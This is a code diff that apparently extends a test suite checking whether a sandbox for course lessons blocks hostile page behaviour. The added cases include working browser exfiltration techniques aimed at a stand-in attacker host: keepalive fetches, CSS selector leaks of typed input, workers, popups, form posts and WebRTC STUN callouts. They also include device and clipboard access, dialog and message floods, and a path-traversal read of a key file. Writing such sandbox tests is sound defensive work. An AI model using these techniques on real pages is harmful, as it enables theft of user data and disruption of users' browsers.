@@ -19,6 +19,16 @@ function element(tag, attributes, parent = document.body) {
 }
 
 const evil = (name) => `${target.evil}/${name}?stolen=1`;
+/** Ask a server of the attacker's for an address, as calls between browsers do; whatever arrives there has got out. */
+async function callOut(name, Connection) {
+  const port = new Map(target.stun.split(",").map((one) => one.split(":"))).get(name);
+  const call = new Connection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
+  call.createDataChannel("stolen");
+  await call.setLocalDescription(await call.createOffer());
+  await pause(700);
+  call.close();
+}
+
 const text = async (answer) => (await (await answer).text()).slice(0, 200);
 
 /** Read what is not the lesson's. */
@@ -106,6 +116,24 @@ const reading = {
   microphone: () => within(1500, navigator.mediaDevices.getUserMedia({ audio: true })),
   screen: () => within(1500, navigator.mediaDevices.getDisplayMedia({ video: true })),
   devices: () => within(1500, navigator.usb.requestDevice({ filters: [] })),
+  what_was_copied: () => within(1500, navigator.clipboard.read()),
+  notifications: async () => {
+    if ((await Notification.requestPermission()) !== "granted") throw new Error("refused");
+  },
+  the_pointer: () => within(1500, document.body.requestPointerLock()),
+  the_keyboard: () => within(1500, navigator.keyboard.lock()),
+  local_fonts: () => within(1500, queryLocalFonts()),
+  files_of_hers: () => within(1500, showOpenFilePicker()),
+  sleep_of_the_screen: () => within(1500, navigator.wakeLock.request("screen")),
+  motion: () => within(1500, new Promise((done, fail) => {
+    const sensor = new Accelerometer();
+    sensor.onerror = fail;
+    sensor.onreading = done;
+    sensor.start();
+  })),
+  instruments: () => within(1500, navigator.requestMIDIAccess()),
+  serial_ports: () => within(1500, navigator.serial.requestPort()),
+  storage_of_the_top_level: () => within(1500, document.requestStorageAccess()),
   files_above_the_course: async () => {
     const answer = await fetch(`/c/${target.token()}/..%2f..%2f..%2fnode.key`);
     if (!answer.ok) throw new Error(String(answer.status));
@@ -157,6 +185,24 @@ const changing = {
   a_flood_of_messages: () => {
     for (let number = 0; number < 100_000; number += 1) top.postMessage(number, "*");
     top.postMessage("x".repeat(10_000_000), "*");
+  },
+  the_domain: () => {
+    document.domain = "localhost";
+    return document.domain;
+  },
+  a_flood_of_history: () => {
+    for (let number = 0; number < 150; number += 1) history.pushState(null, "", `#${number}`);
+  },
+  a_flood_of_dialogs: async () => {
+    for (let number = 0; number < 20; number += 1) {
+      alert(number);
+      confirm(number);
+      prompt(number);
+    }
+    print();
+  },
+  a_flood_of_messages_to_the_shim: () => {
+    for (let number = 0; number < 100_000; number += 1) parent.postMessage({ outpost: 1, type: "leave", number }, "*");
   },
   the_shim: () => {
     parent.API.LMSInitialize = () => "taken";
@@ -217,6 +263,30 @@ const leaking = {
     const image = element("img", { src: "base?stolen=1" });
     return image.fetched.finally(() => base.remove());
   },
+  keep_alive: () => fetch(evil("keep_alive"), { method: "POST", mode: "no-cors", keepalive: true, body: "stolen" }),
+  web_socket_stream: () => new WebSocketStream(evil("web_socket_stream").replace("http", "ws")).opened,
+  style_of_what_is_typed: () => {
+    element("style", { textContent: `input[value^="n"] { background: url("${evil("style_of_what_is_typed")}"); }` });
+    element("input", {}).setAttribute("value", "nine words");
+  },
+  shared_worker: () => {
+    const code = `fetch(${JSON.stringify(evil("shared_worker"))}, { mode: "no-cors" })`;
+    return new SharedWorker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
+  },
+  worklet: async () => {
+    const code = `import ${JSON.stringify(evil("worklet"))}`;
+    await CSS.paintWorklet.addModule(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
+  },
+  a_named_window: () => open(evil("a_named_window"), "named", "popup,width=100,height=100"),
+  a_window_without_opener: () => open(evil("a_window_without_opener"), "_blank", "noopener"),
+  a_blank_window_led_on: () => {
+    open("about:blank").location = evil("a_blank_window_led_on");
+  },
+  a_form_to_a_window: () => {
+    const form = element("form", { method: "get", action: target.evil + "/a_form_to_a_window", target: "_blank" });
+    element("input", { name: "stolen", value: "1" }, form);
+    form.submit();
+  },
   a_new_window: () => open(evil("a_new_window")),
   a_link_to_a_window: () => element("a", { href: evil("a_link_to_a_window"), target: "_blank" }).click(),
   a_refresh: () => {
@@ -229,8 +299,16 @@ const leaking = {
   },
 };
 
-/** The same by going there; each ends the lesson where nothing stops it, so they are made one at a time. */
+/** The same by going there, or calling out; each ends the lesson, stopped or not, so they are made one at a time. */
 const leaving = {
+  web_rtc: () => callOut("web_rtc", RTCPeerConnection),
+  web_rtc_of_a_frame: () => callOut("web_rtc_of_a_frame", element("iframe", {}).contentWindow.RTCPeerConnection),
+  web_rtc_of_a_page_of_data: async () => {
+    const page = URL.createObjectURL(new Blob(["<p>"], { type: "text/html" }));
+    const frame = element("iframe", { src: page });
+    await frame.fetched;
+    return callOut("web_rtc_of_a_page_of_data", frame.contentWindow.RTCPeerConnection);
+  },
   a_link_to_the_top: () => element("a", { href: evil("a_link_to_the_top"), target: "_top" }).click(),
   the_top: () => {
     top.location = evil("the_top");
